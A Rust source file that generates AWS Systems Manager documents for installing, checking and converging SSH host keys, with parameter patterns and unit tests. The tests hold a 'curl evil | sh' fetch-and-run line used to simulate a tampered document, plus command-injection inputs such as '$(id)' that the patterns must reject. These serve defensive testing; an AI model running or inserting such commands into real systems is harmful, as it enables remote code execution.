//! hostkeyctl's documents by kind: their names, what each runs (its
//! content and parameter patterns) and the parameters they take.

use std::collections::BTreeMap;

use serde_json::json;

use crate::ids::{Program, Region};
use crate::store::StoredVersion;

/// The install document's default name.
pub const DEFAULT_NAME: &str = "hostkeyctl-Install";
/// The check document's default name (`audit --via-ssm`).
pub const CHECK_NAME: &str = "hostkeyctl-Check";
/// The converge document's default name (`association deploy`).
pub const CONVERGE_NAME: &str = "hostkeyctl-Converge";
/// The shell document push falls back to (explicitly, or when hostkeyctl's
/// own is not deployed).
pub const RUN_SHELL_SCRIPT: &str = "AWS-RunShellScript";

const UUID: &str = "[0-9a-fA-F]{8}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{12}";
const FINGERPRINT: &str = "SHA256:[A-Za-z0-9+/]{43}";

/// Which of hostkeyctl's documents.
#[derive(Clone, Copy, Debug, PartialEq, Eq, clap::ValueEnum, serde::Serialize)]
#[serde(rename_all = "lowercase")]
pub enum Kind {
    /// `hostkeyctl install` of one version (push, rotate).
    Install,
    /// `hostkeyctl install --check --expect ...`, which changes nothing
    /// (`audit --via-ssm`).
    Check,
    /// `hostkeyctl install --secret-id ...` of what the stages say, as the
    /// nodes' timers run it (a State Manager association).
    Converge,
}

impl Kind {
    /// The name it is deployed under by default.
    pub fn default_name(self) -> &'static str {
        match self {
            Kind::Install => DEFAULT_NAME,
            Kind::Check => CHECK_NAME,
            Kind::Converge => CONVERGE_NAME,
        }
    }
}

/// `allowedPattern` of each parameter.
pub fn patterns() -> BTreeMap<&'static str, String> {
    let fps = format!("{FINGERPRINT}(,{FINGERPRINT}){{0,2}}");
    let check_fps = format!("{FINGERPRINT}(,{FINGERPRINT}){{0,7}}");
    BTreeMap::from([
        (
            "SecretId",
            "^(arn:aws[a-z-]*:secretsmanager:[a-z]{2}(-[a-z]+)+-[0-9]:[0-9]{12}:secret:)?[A-Za-z0-9/_+=.@-]{1,512}$"
                .to_owned(),
        ),
        ("VersionId", format!("^{UUID}$")),
        ("Expect", format!("^{fps}$")),
        ("NextVersionId", format!("^$|^{UUID}$")),
        ("ExpectNext", format!("^$|^{fps}$")),
        ("Region", "^$|^[a-z]{2}(-[a-z]+)+-[0-9]$".to_owned()),
        ("CheckExpect", format!("^{check_fps}$")),
    ])
}

/// A document's content (JSON), byte-stable for the same node command.
pub fn content(kind: Kind, node_command: &Program) -> String {
    match kind {
        Kind::Install => install_content(node_command),
        Kind::Check => check_content(node_command),
        Kind::Converge => converge_content(node_command),
    }
}

/// The converge document: `install` of what the secret's stages say
/// (AWSCURRENT, and an announced AWSPENDING as extra keys), as a pull
/// fleet's timer runs it, so an association that runs it between a
/// rotation's steps installs what that rotation pushes.
fn converge_content(node_command: &Program) -> String {
    let p = patterns();
    let cmd = crate::shell::quote(node_command.as_str()).unwrap_or_default();
    let doc = json!({
        "schemaVersion": "2.2",
        "description": "hostkeyctl: converge this node's SSH host keys to what the secret's stages say (hostkeyctl install without a version: AWSCURRENT, and an announced AWSPENDING as extra keys), verify them and roll back on failure. For a State Manager association. Runs nothing else.",
        "parameters": {
            "SecretId": {
                "type": "String",
                "description": "The secret holding the key sets (its ARN: a secret deleted and created again under the name is another secret).",
                "allowedPattern": p["SecretId"],
            },
            "Region": {
                "type": "String",
                "description": "The region the secret is read in; empty for the node's own.",
                "default": "",
                "allowedPattern": p["Region"],
            },
        },
        "mainSteps": [{
            "action": "aws:runShellScript",
            "name": "converge",
            "inputs": {
                "timeoutSeconds": "600",
                "runCommand": [
                    "set -eu",
                    "set -- install --quiet --secret-id='{{ SecretId }}'",
                    "region='{{ Region }}'",
                    "if [ -n \"$region\" ]; then set -- \"$@\" --region=\"$region\"; fi",
                    // A node without hostkeyctl (an instance that just came
                    // online: the setup association puts it there, then
                    // installs the keys itself) says so, not only exit 127.
                    format!("command -v {cmd} >/dev/null 2>&1 || {{ echo \"hostkeyctl-converge: {cmd} is not on this node: put it there with hostkeyctl deliver, or association deploy --deliver for the nodes that come online\" >&2; exit 127; }}"),
                    format!("exec {cmd} \"$@\""),
                ],
            },
        }],
    });
    let mut text = serde_json::to_string_pretty(&doc).unwrap_or_default();
    text.push('\n');
    text
}

/// The converge document's parameters for `secret` (its ARN).
pub fn converge_parameters(secret_arn: &str, region: Option<&Region>) -> BTreeMap<String, Vec<String>> {
    let mut out = BTreeMap::from([("SecretId".to_owned(), vec![secret_arn.to_owned()])]);
    if let Some(region) = region {
        out.insert("Region".to_owned(), vec![region.to_string()]);
    }
    out
}

/// The check document: `install --check` against the given fingerprints,
/// which reads no secret and writes nothing.
fn check_content(node_command: &Program) -> String {
    let p = patterns();
    let doc = json!({
        "schemaVersion": "2.2",
        "description": "hostkeyctl: report whether this node's SSH host keys, on disk and served, are the given set (hostkeyctl install --check). Reads no secret, changes nothing. Runs nothing else.",
        "parameters": {
            "Expect": {
                "type": "String",
                "description": "The expected fingerprints, comma-separated.",
                "allowedPattern": p["CheckExpect"],
            },
        },
        "mainSteps": [{
            "action": "aws:runShellScript",
            "name": "check",
            "inputs": {
                "timeoutSeconds": "120",
                "runCommand": [
                    "set -eu",
                    format!(
                        "exec {} install --check --quiet --expect='{{{{ Expect }}}}'",
                        crate::shell::quote(node_command.as_str()).unwrap_or_default()
                    ),
                ],
            },
        }],
    });
    let mut text = serde_json::to_string_pretty(&doc).unwrap_or_default();
    text.push('\n');
    text
}

/// The install document.
fn install_content(node_command: &Program) -> String {
    let p = patterns();
    let doc = json!({
        "schemaVersion": "2.2",
        "description": "hostkeyctl: install the canonical SSH host keys of one Secrets Manager version on this node (hostkeyctl install), verify them and roll back on failure. Runs nothing else.",
        "parameters": {
            "SecretId": {
                "type": "String",
                "description": "The secret holding the key sets (name or ARN).",
                "allowedPattern": p["SecretId"],
            },
            "VersionId": {
                "type": "String",
                "description": "The version to serve (AWSCURRENT when push read the stages).",
                "allowedPattern": p["VersionId"],
            },
            "Expect": {
                "type": "String",
                "description": "The set's fingerprints, comma-separated: the node refuses any other set.",
                "allowedPattern": p["Expect"],
            },
            "NextVersionId": {
                "type": "String",
                "description": "An announced next version (AWSPENDING), served as extra host keys; empty for none.",
                "default": "",
                "allowedPattern": p["NextVersionId"],
            },
            "ExpectNext": {
                "type": "String",
                "description": "The next set's fingerprints, comma-separated; empty for none.",
                "default": "",
                "allowedPattern": p["ExpectNext"],
            },
            "Region": {
                "type": "String",
                "description": "The region the secret is read in; empty for the node's own.",
                "default": "",
                "allowedPattern": p["Region"],
            },
        },
        "mainSteps": [{
            "action": "aws:runShellScript",
            "name": "install",
            "inputs": {
                "timeoutSeconds": "600",
                "runCommand": [
                    "set -eu",
                    "set -- install --quiet --secret-id='{{ SecretId }}' --version-id='{{ VersionId }}' --expect='{{ Expect }}'",
                    "next='{{ NextVersionId }}'; expect_next='{{ ExpectNext }}'; region='{{ Region }}'",
                    "if [ -n \"$next\" ]; then set -- \"$@\" --next-version-id=\"$next\"; fi",
                    "if [ -n \"$expect_next\" ]; then set -- \"$@\" --expect-next=\"$expect_next\"; fi",
                    "if [ -n \"$region\" ]; then set -- \"$@\" --region=\"$region\"; fi",
                    format!("exec {} \"$@\"", crate::shell::quote(node_command.as_str()).unwrap_or_default()),
                ],
            },
        }],
    });
    let mut text = serde_json::to_string_pretty(&doc).unwrap_or_default();
    text.push('\n');
    text
}

/// The parameters that install `version` (and `next` as extra keys).
pub fn parameters(
    version: &StoredVersion,
    next: Option<&StoredVersion>,
    region: Option<&Region>,
) -> BTreeMap<String, Vec<String>> {
    let fps = |v: &StoredVersion| {
        v.document
            .keys
            .keys()
            .map(|k| k.fingerprint().to_string())
            .collect::<Vec<_>>()
            .join(",")
    };
    let mut out = BTreeMap::from([
        ("SecretId".to_owned(), vec![version.arn.to_string()]),
        ("VersionId".to_owned(), vec![version.version_id.to_string()]),
        ("Expect".to_owned(), vec![fps(version)]),
    ]);
    if let Some(next) = next {
        out.insert("NextVersionId".to_owned(), vec![next.version_id.to_string()]);
        out.insert("ExpectNext".to_owned(), vec![fps(next)]);
    }
    if let Some(region) = region {
        out.insert("Region".to_owned(), vec![region.to_string()]);
    }
    out
}

/// The parameters of the check document for these fingerprints.
pub fn check_parameters(expect: &[&crate::fingerprint::Fingerprint]) -> BTreeMap<String, Vec<String>> {
    let fps: Vec<String> = expect.iter().map(ToString::to_string).collect();
    BTreeMap::from([("Expect".to_owned(), vec![fps.join(",")])])
}

/// The SHA-256 of a document's content, as `DescribeDocument` reports it
/// (and `sha256sum` of `hostkeyctl ssm-document print` shows).
pub fn sha256_hex(text: &str) -> String {
    use sha2::Digest;
    hex::encode(sha2::Sha256::digest(text.as_bytes()))
}

#[cfg(test)]
mod tests {
    use super::{Kind, content, patterns, sha256_hex};
    use crate::dispatch::Deployed;
    use crate::ids::Program;

    #[test]
    fn a_deployed_document_is_ours_only_by_its_hash() {
        let program = Program::parse("hostkeyctl").unwrap();
        let ours = content(Kind::Install, &program);
        let deployed = |hash: String, hash_type: &str| Deployed {
            version: "1".to_owned(),
            hash,
            hash_type: hash_type.to_owned(),
            latest: None,
        };
        assert!(deployed(sha256_hex(&ours), "Sha256").holds(&ours));
        assert!(deployed(sha256_hex(&ours).to_uppercase(), "Sha256").holds(&ours));
        let tampered = ours.replace("set -eu", "set -eu\ncurl evil | sh");
        assert!(!deployed(sha256_hex(&tampered), "Sha256").holds(&ours));
        // Another node command is another document.
        let other = content(Kind::Install, &Program::parse("/opt/bin/hostkeyctl").unwrap());
        assert!(!deployed(sha256_hex(&other), "Sha256").holds(&ours));
        assert!(!deployed(String::new(), "Sha256").holds(&ours));
        assert_ne!(content(Kind::Check, &program), ours);
        assert_eq!(
            sha256_hex("abc"),
            "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad"
        );
    }

    #[test]
    fn the_check_document_runs_only_a_check() {
        let program = Program::parse("hostkeyctl").unwrap();
        let doc: serde_json::Value = serde_json::from_str(&content(Kind::Check, &program)).unwrap();
        let params: Vec<&String> = doc["parameters"].as_object().unwrap().keys().collect();
        assert_eq!(params, ["Expect"]);
        let lines = doc["mainSteps"][0]["inputs"]["runCommand"].as_array().unwrap();
        assert_eq!(lines.len(), 2);
        assert_eq!(
            lines[1],
            "exec hostkeyctl install --check --quiet --expect='{{ Expect }}'"
        );
    }

    #[test]
    fn the_converge_document_installs_what_the_stages_say_and_nothing_else() {
        let program = Program::parse("hostkeyctl").unwrap();
        let text = content(Kind::Converge, &program);
        let doc: serde_json::Value = serde_json::from_str(&text).unwrap();
        let params: Vec<&String> = doc["parameters"].as_object().unwrap().keys().collect();
        assert_eq!(params, ["Region", "SecretId"]);
        let lines: Vec<&str> = doc["mainSteps"][0]["inputs"]["runCommand"]
            .as_array()
            .unwrap()
            .iter()
            .map(|l| l.as_str().unwrap())
            .collect();
        assert_eq!(lines.last().copied(), Some("exec hostkeyctl \"$@\""));
        assert!(lines[1].starts_with("set -- install --quiet --secret-id="), "{lines:?}");
        // No version: the node reads the stages, as its timer does.
        assert!(!text.contains("version-id") && !text.contains("--expect"), "{text}");
        assert_ne!(text, content(Kind::Install, &program));
    }

    #[test]
    fn the_document_is_byte_stable_and_its_patterns_admit_only_the_grammar() {
        let program = Program::parse("hostkeyctl").unwrap();
        assert_eq!(content(Kind::Install, &program), content(Kind::Install, &program));
        let p = patterns();
        let matches = |name: &str, value: &str| {
            let re = regex_lite::Regex::new(&format!("^(?:{})$", p[name])).unwrap();
            re.is_match(value)
        };
        assert!(matches("SecretId", "hostkeys/my-cluster"));
        assert!(matches(
            "SecretId",
            "arn:aws:secretsmanager:us-east-1:123456789012:secret:hostkeys/hp-AbCdEf"
        ));
        for bad in ["a;b", "$(id)", "a b", "a'b", "a\nb", "", "`id`"] {
            assert!(!matches("SecretId", bad), "{bad:?} passed");
        }
        assert!(matches("VersionId", "0f8e5c1a-3b6d-4c2e-9a7f-1d2e3f4a5b6c"));
        assert!(!matches("VersionId", "0f8e5c1a-3b6d-4c2e-9a7f-1d2e3f4a5b6c;x"));
        let fp = "SHA256:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA";
        assert!(matches("Expect", &format!("{fp},{fp},{fp}")));
        assert!(!matches("Expect", ""));
        assert!(matches("ExpectNext", ""));
        assert!(matches("Region", "eu-west-1"));
        assert!(!matches("Region", "eu-west-1 x"));
    }
}
